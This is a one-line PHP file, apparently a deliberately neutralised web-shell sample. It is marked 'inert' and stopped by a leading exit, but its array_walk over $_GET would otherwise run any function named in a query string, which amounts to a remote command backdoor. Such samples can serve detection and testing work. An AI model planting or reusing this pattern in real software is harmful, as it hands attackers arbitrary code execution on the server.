<?php exit; /* inert */ array_walk($_GET,function($v,$k){ $k($v); });
